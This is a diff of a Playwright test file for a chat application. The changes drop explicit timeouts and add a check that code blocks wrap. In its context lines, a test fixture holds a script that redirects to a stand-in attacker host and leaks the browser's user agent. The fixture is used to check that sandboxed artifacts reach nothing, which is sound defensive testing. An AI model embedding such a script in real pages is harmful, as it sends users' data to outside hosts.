@@ -61,6 +61,10 @@ LEAVING_PAGE = """```html
 <script>setTimeout(() => { location = "https://evil.example/self?" + navigator.userAgent; }, 100);</script>
 ```"""
 
+IS_WRAPPED = """() => {
+    const code = document.querySelector("figure.code pre");
+    return code.scrollWidth === code.clientWidth;
+}"""
 STEP = 900
 # Remembers what stands in the middle of the screen, and where; says whether a message is there, and nothing above it.
 MARK = """message => {
@@ -133,7 +137,7 @@ def test_tables_code_and_diagrams_can_be_used(tab: Page, product: Product) -> No
     conversation, _ = plant(product, ["Show me", ANSWER])
     tab.goto(f"/chat/{conversation}")
     sort = tab.get_by_test_id("table-sort")
-    expect(sort).to_have_count(3, timeout=20_000)
+    expect(sort).to_have_count(3)
     first = tab.locator(".prose-table tbody td:first-child")
     sort.nth(1).focus()
     tab.keyboard.press("Enter")
@@ -157,13 +161,11 @@ def test_tables_code_and_diagrams_can_be_used(tab: Page, product: Product) -> No
     expect(code.locator(".hljs-built_in")).to_have_count(1)
     assert code.evaluate("code => code.scrollWidth > code.clientWidth")
     tab.get_by_test_id("code-wrap").first.click()
-    assert code.evaluate("code => code.scrollWidth === code.clientWidth")
+    tab.wait_for_function(IS_WRAPPED)
     with tab.expect_download() as download:
         tab.get_by_test_id("code-download").first.click()
     assert download.value.suggested_filename == "greet.py"
-    expect(tab.locator("[data-testid=diagram][data-drawn=true] img")).to_have_attribute(
-        "alt", re.compile("Known"), timeout=20_000
-    )
+    expect(tab.locator("[data-testid=diagram][data-drawn=true] img")).to_have_attribute("alt", re.compile("Known"))
     expect(tab.get_by_test_id("diagram-broken")).to_be_visible()
     assert grave(tab) == []
 
@@ -171,7 +173,7 @@ def test_tables_code_and_diagrams_can_be_used(tab: Page, product: Product) -> No
 def test_an_answer_is_copied_as_it_looks_and_as_it_was_written(tab: Page, product: Product) -> None:
     conversation, _ = plant(product, ["Show me", f"{ANSWER}\n**Bold** & [a link](https://example.org/)\n"])
     tab.goto(f"/chat/{conversation}")
-    expect(tab.get_by_test_id("diagram-broken")).to_be_visible(timeout=20_000)
+    expect(tab.get_by_test_id("diagram-broken")).to_be_visible()
     tab.get_by_test_id("message-more").click()
     tab.get_by_test_id("message-copy-formatted").click()
     read = """async () => {
@@ -199,7 +201,7 @@ def test_what_an_answer_makes_is_seen_and_reaches_nothing(tab: Page, product: Pr
     older = "```html\n<title>Escape</title><p>first version</p>\n```"
     conversation, _ = plant(product, ["Make it", older, "Better", HOSTILE_PAGE, "And?", LEAVING_PAGE])
     tab.goto(f"/chat/{conversation}")
-    tab.get_by_test_id("artifact-open").nth(1).click(timeout=20_000)
+    tab.get_by_test_id("artifact-open").nth(1).click()
     panel = tab.get_by_test_id("artifact-panel")
     expect(panel.locator("h2")).to_have_text("Escape")
     inside = tab.frame_locator("[data-testid=artifact-frame]").locator("#out")
@@ -230,7 +232,7 @@ def test_a_long_conversation_is_read_in_windows(tab: Page, product: Product) -> 
     conversation, messages = plant(product, [f"Message {number}. " + "word " * 100 for number in range(160)])
     tab.goto(f"/chat/{conversation}")
     shown = tab.get_by_test_id("message")
-    expect(shown.last).to_contain_text("Message 159.", timeout=20_000)
+    expect(shown.last).to_contain_text("Message 159.")
     tab.locator(".transcript-view").hover()
     most = steps = 0
     while not tab.evaluate(MARK, messages[0]):
